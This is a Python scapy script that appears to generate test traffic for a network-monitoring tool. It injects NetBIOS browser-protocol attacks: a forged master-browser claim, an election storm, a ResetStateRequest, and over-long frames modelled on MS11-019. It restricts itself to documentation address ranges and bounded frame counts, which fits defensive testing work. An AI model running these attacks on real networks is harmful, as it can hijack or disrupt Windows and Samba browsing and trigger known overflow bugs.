#!/usr/bin/python3
"""Inject browser-protocol attacks on a test LAN with scapy, for the `nbdgm watch`
namespace tests (issue 14 §4): a forged local master, an election storm, a
ResetStateRequest to the master, an over-long browser frame (the MS11-019 shape).
The frames are built by scripts/watch/craft.py's hand-written encoders (MS-BRWS,
RFC 1002 §4.4.1). Bounded: --storm frames at most 200, spaced --gap seconds.
Test addresses only (198.51.100.0/24, 203.0.113.0/24)."""

import argparse
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import craft  # noqa: E402
from scapy.all import Ether, IP, UDP, Raw, sendp, get_if_hwaddr, conf  # noqa: E402


class Me:
    def __init__(self, name, ip, mac):
        self.name, self.ip, self.mac = name, ip, mac

    def addr(self):
        return bytes(int(x) for x in self.ip.split("."))


def send(me, iface, dst_ip, dst_mac, payload):
    p = Ether(src=me.mac, dst=dst_mac) / IP(src=me.ip, dst=dst_ip, ttl=128) / UDP(sport=138, dport=138) / Raw(payload)
    sendp(p, iface=iface, verbose=False)


def bcast_ip(ip):
    return ".".join(ip.split(".")[:3] + ["255"])


def browse(me, wg, suffix, frame, dgm_id, msg_type=craft.DIRECT_GROUP):
    return craft.datagram(msg_type, dgm_id, me, craft.nb_name(me.name, 0x00), craft.nb_name(wg, suffix),
                          craft.mailslot(craft.BROWSE, frame))


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--ip", required=True)
    ap.add_argument("--name", default="EVIL66")
    ap.add_argument("--workgroup", default="TESTGROUP")
    ap.add_argument("--master-ip", help="the master browser's address (reset-state target)")
    ap.add_argument("--master-mac", default="ff:ff:ff:ff:ff:ff")
    ap.add_argument("--storm", type=int, default=40)
    ap.add_argument("--gap", type=float, default=0.25)
    ap.add_argument("attacks", nargs="+",
                    choices=["forged-master", "election-storm", "reset-state", "overlong"])
    a = ap.parse_args()
    if not a.ip.startswith(("198.51.100.", "203.0.113.")):
        sys.exit("inject: test addresses only")
    conf.verb = 0
    me = Me(a.name, a.ip, get_if_hwaddr(a.iface))
    bc, bmac, wg = bcast_ip(a.ip), "ff:ff:ff:ff:ff:ff", a.workgroup
    dgm = 0x6600
    for attack in a.attacks:
        if attack == "forged-master":
            # Claim WG<1D> on 137, then announce as local master (MS-BRWS §2.2.6).
            p = (Ether(src=me.mac, dst=bmac) / IP(src=me.ip, dst=bc, ttl=128) / UDP(sport=137, dport=137)
                 / Raw(craft.nbns_registration(0x6601, wg, 0x1D, me.addr())))
            sendp(p, iface=a.iface, verbose=False)
            t = craft.WS_TYPE | craft.SV_MASTER_BROWSER | craft.SV_BACKUP_BROWSER
            for i in range(3):
                dgm += 1
                frame = craft.host_announcement(me.name, t, "", opcode=0x0F, update=i + 1)
                send(me, a.iface, bc, bmac, browse(me, wg, 0x1E, frame, dgm))
                time.sleep(a.gap)
        elif attack == "election-storm":
            for i in range(min(a.storm, 200)):
                dgm += 1
                frame = craft.election(craft.criteria(0x10, 0x01), 1000 + i, me.name)
                send(me, a.iface, bc, bmac, browse(me, wg, 0x1E, frame, dgm))
                time.sleep(a.gap)
        elif attack == "reset-state":
            dgm += 1
            dst = a.master_ip or bc
            mtype = craft.DIRECT_UNIQUE if a.master_ip else craft.DIRECT_GROUP
            send(me, a.iface, dst, a.master_mac, browse(me, wg, 0x1D, craft.reset_state(0x01), dgm, mtype))
        elif attack == "overlong":
            dgm += 1
            frame = craft.election(craft.criteria(0x10, 0x01), 1000, "", raw_server=b"A" * 300)
            send(me, a.iface, bc, bmac, browse(me, wg, 0x1E, frame, dgm))
            dgm += 1
            frame = craft.host_announcement(me.name, craft.WS_TYPE, "", raw_comment=b"B" * 300)
            send(me, a.iface, bc, bmac, browse(me, wg, 0x1D, frame, dgm))
        print("sent %s" % attack, flush=True)
        time.sleep(0.5)


if __name__ == "__main__":
    main()
